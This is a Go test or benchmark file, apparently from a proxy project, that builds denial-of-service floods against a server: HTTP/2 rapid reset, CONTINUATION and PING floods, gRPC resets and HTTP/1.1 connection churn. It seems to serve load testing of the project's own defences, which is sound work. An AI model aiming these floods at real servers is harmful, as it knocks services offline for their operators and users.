package main

import (
	"bytes"
	"crypto/tls"
	"errors"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/weft-proxy/weft/test/bench/frame"
)

// attack describes how many connections overload a server: each sends bursts, one write per burst,
// with a pause between them.
type attack struct {
	name string
	// burst returns the bytes of one burst. first is the first free stream id, or the first request
	// id of an RPC protocol.
	burst          func(first uint32) []byte
	idsPerBurst    uint32 // number of stream or request ids that a burst uses
	newConnections bool   // each burst uses a new connection, which is then closed
	tls            bool
	rpc            string // the RPC protocol; "": HTTP/2, or HTTP/1.1
	http1          bool
	reset          bool // connections are closed with RST instead of FIN
}

// streamsPerBurst is the number of streams of a burst: below 500, the default number of resets that
// one connection may send at once.
const streamsPerBurst = 480

// attacks returns all attacks; the test runs the first one.
func attacks() []attack {
	resets := func(method string, fields ...string) func(uint32) []byte {
		return framesBurst(func(f *http2.Framer, block []byte, id uint32) error {
			return errors.Join(
				f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true}),
				f.WriteRSTStream(id, http2.ErrCodeCancel))
		}, method, fields...)
	}
	rapidReset := resets("GET")
	grpcReset := resets("POST", "content-type", "application/grpc", "te", "trailers")
	list := []attack{
		{name: "rapid reset", burst: rapidReset, idsPerBurst: streamsPerBurst},
		{name: "rapid reset, new connections", burst: rapidReset, idsPerBurst: streamsPerBurst, newConnections: true},
		{name: "rapid reset over TLS", burst: rapidReset, idsPerBurst: streamsPerBurst, tls: true},
		{name: "rapid reset of gRPC", burst: grpcReset, idsPerBurst: streamsPerBurst},
		{name: "requests, then disconnect", burst: framesBurst(func(f *http2.Framer, block []byte, id uint32) error {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true})
		}, "GET"), idsPerBurst: streamsPerBurst, newConnections: true},
		{name: "HEADERS without END_STREAM", burst: framesBurst(func(f *http2.Framer, block []byte, id uint32) error {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
		}, "POST"), idsPerBurst: streamsPerBurst, newConnections: true},
		{name: "DATA, then reset", burst: framesBurst(func(f *http2.Framer, block []byte, id uint32) error {
			return errors.Join(
				f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}),
				f.WriteData(id, false, []byte("x")),
				f.WriteRSTStream(id, http2.ErrCodeCancel))
		}, "POST"), idsPerBurst: streamsPerBurst},
		{name: "PRIORITY", burst: framesBurst(func(f *http2.Framer, _ []byte, id uint32) error {
			return f.WritePriority(id, http2.PriorityParam{Weight: 1})
		}, "GET")},
		{name: "CONTINUATION", burst: continuations},
		{name: "empty SETTINGS", burst: framesBurst(func(f *http2.Framer, _ []byte, _ uint32) error { return f.WriteSettings() }, "GET")},
		{name: "PING", burst: framesBurst(func(f *http2.Framer, _ []byte, _ uint32) error { return f.WritePing(false, [8]byte{}) }, "GET")},
		{name: "PING ACK", burst: framesBurst(func(f *http2.Framer, _ []byte, _ uint32) error { return f.WritePing(true, [8]byte{}) }, "GET")},
	}
	for _, reset := range []bool{false, true} {
		name := "HTTP/1.1 request, then FIN"
		if reset {
			name = "HTTP/1.1 request, then RST"
		}
		list = append(list, attack{name: name, http1: true, newConnections: true, reset: reset, burst: func(uint32) []byte {
			return []byte("GET / HTTP/1.1\r\nHost: flood.test\r\n\r\n")
		}})
	}
	for _, p := range frame.All() {
		list = append(list, attack{name: p.Name() + " calls, then disconnect", rpc: p.Name(), newConnections: true, idsPerBurst: streamsPerBurst, burst: func(first uint32) []byte {
			var b []byte
			for i := range uint32(streamsPerBurst) {
				b = p.AppendRequest(b, uint64(first+i), frame.Text{})
			}
			return b
		}})
	}
	return list
}

// framesBurst returns a burst function that calls write once per stream.
func framesBurst(write func(f *http2.Framer, block []byte, id uint32) error, method string, fields ...string) func(uint32) []byte {
	return func(first uint32) []byte {
		var out, block bytes.Buffer
		f := http2.NewFramer(&out, nil)
		f.AllowIllegalWrites = true
		enc := hpack.NewEncoder(&block)
		enc.SetMaxDynamicTableSize(0) // the same bytes on any connection
		all := append([]string{":method", method, ":scheme", "http", ":authority", "flood.test", ":path", "/"}, fields...)
		for i := 0; i < len(all); i += 2 {
			_ = enc.WriteField(hpack.HeaderField{Name: all[i], Value: all[i+1]}) // writes to memory
		}
		for i := range uint32(streamsPerBurst) {
			if err := write(f, block.Bytes(), first+2*i); err != nil {
				panic("flood: " + err.Error()) // writes to memory
			}
		}
		return out.Bytes()
	}
}

// continuations returns a HEADERS frame and CONTINUATION frames without END_HEADERS.
func continuations(first uint32) []byte {
	var out bytes.Buffer
	f := http2.NewFramer(&out, nil)
	err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: first, BlockFragment: []byte{0x82}})
	for range streamsPerBurst {
		err = errors.Join(err, f.WriteContinuation(first, false, []byte{0x84}))
	}
	if err != nil {
		panic("flood: " + err.Error()) // writes to memory
	}
	return out.Bytes()
}

// http1Burst is the number of connections, each for one request, that an HTTP/1.1 attacker opens
// one after another in each round.
const http1Burst = 40

// load configures the run of an attack.
type load struct {
	connections int
	interval    time.Duration // time between two bursts of a connection
	duration    time.Duration
}

// run attacks address and returns the number of sent bursts and opened connections.
func (a attack) run(address string, l load) (bursts, connections int) {
	var sent, opened atomic.Int64
	var wg sync.WaitGroup
	deadline := time.Now().Add(l.duration)
	for range l.connections {
		wg.Go(func() {
			c := attacker{attack: a, address: address}
			defer c.close()
			ticker := time.NewTicker(l.interval)
			defer ticker.Stop()
			for time.Now().Before(deadline) {
				if c.conn == nil && c.connect() == nil {
					opened.Add(1)
				}
				if c.burst() == nil {
					sent.Add(1)
				}
				for n := 1; a.http1 && n < http1Burst && c.connect() == nil; n++ {
					opened.Add(1)
					if c.burst() == nil {
						sent.Add(1)
					}
				}
				select {
				case <-ticker.C:
				case <-time.After(time.Until(deadline)):
				}
			}
		})
	}
	wg.Wait()
	return int(sent.Load()), int(opened.Load())
}

// attacker holds one connection, and replaces it after its end.
type attacker struct {
	attack
	address string
	conn    net.Conn
	next    uint32
	done    chan struct{} // closed when the server sends nothing more
}

var errClosed = errors.New("the connection has ended")

func (c *attacker) connect() error {
	conn, err := net.DialTimeout("tcp", c.address, 5*time.Second)
	if err != nil {
		return err
	}
	if c.tls {
		tlsConn := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}) //nolint:gosec // on loopback
		if err := tlsConn.Handshake(); err != nil {
			_ = conn.Close() // unusable after a failed handshake
			return err
		}
		conn = tlsConn
	}
	c.conn, c.next, c.done = conn, 1, make(chan struct{})
	if c.rpc == "" && !c.http1 {
		// Preface, empty SETTINGS, and the ACK of the server's SETTINGS.
		preface := append([]byte(http2.ClientPreface), 0, 0, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 4, 1, 0, 0, 0, 0)
		if _, err := conn.Write(preface); err != nil {
			c.close()
			return err
		}
	}
	done := c.done
	go func() {
		defer close(done)
		_, _ = io.Copy(io.Discard, conn) // until the connection ends
	}()
	return nil
}

// burst sends one burst. It returns an error if the server has closed the connection.
func (c *attacker) burst() error {
	if c.conn == nil {
		return errClosed
	}
	select {
	case <-c.done:
		c.close()
		return errClosed
	default:
	}
	_ = c.conn.SetWriteDeadline(time.Now().Add(time.Second)) // fails only on a closed connection
	_, err := c.conn.Write(c.attack.burst(c.next))
	c.next += 2 * c.idsPerBurst
	if tcp, ok := c.conn.(*net.TCPConn); ok && c.reset {
		_ = tcp.SetLinger(0) // fails only on a closed connection
	}
	if err != nil || c.newConnections {
		c.close()
	}
	return err
}

func (c *attacker) close() {
	if c.conn != nil {
		_ = c.conn.Close() // the server may have closed the connection
		<-c.done
		c.conn = nil
	}
}
